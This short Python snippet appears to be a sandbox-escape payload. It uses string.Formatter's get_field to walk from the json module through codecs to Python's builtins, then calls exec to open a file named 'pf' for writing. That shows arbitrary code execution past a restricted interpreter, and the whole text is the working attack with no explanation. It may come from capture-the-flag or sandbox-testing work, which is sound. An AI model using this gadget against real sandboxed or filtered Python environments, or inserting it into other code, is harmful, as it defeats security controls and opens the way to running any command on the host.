from string import Formatter as F
import json as j
o, key = F().get_field("0[0].codecs.builtins", [[j]], {})
o.exec("open('pf','w')")
